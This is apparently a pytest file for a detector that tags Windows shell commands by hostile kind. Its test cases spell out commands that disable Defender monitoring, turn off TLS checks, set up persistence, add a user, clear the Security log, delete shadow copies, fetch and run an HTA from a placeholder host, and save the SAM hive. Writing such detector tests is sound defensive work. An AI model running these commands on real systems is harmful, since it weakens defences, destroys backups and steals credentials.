import pytest

from posthouse.inspection.facts import Kind
from posthouse.inspection.reading.effects import shell_facts


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("Set-MpPreference -DisableRealtimeMonitoring $true", Kind.WEAKEN),
        ("[Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}", Kind.TLS_OFF),
        ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y", Kind.PERSIST),
        ("schtasks /create /sc onlogon /tn x /tr y.exe", Kind.PERSIST),
        ("net user mallory x /add", Kind.PRIVILEGE),
        ("wevtutil cl Security", Kind.TRACES),
        ("vssadmin delete shadows /all", Kind.DESTROY),
        ("mshta https://a.example/x.hta", Kind.FETCH_RUN),
        ("reg save HKLM\\SAM sam.hive", Kind.SECRET),
    ],
)
def test_single_commands_of_windows(text: str, kind: Kind) -> None:
    assert kind in [fact.kind for fact in shell_facts(text)]


@pytest.mark.parametrize("text", ["Get-ChildItem -Recurse", "net view", "reg query HKCU\\Software"])
def test_ordinary_commands_of_windows(text: str) -> None:
    assert shell_facts(text) == []
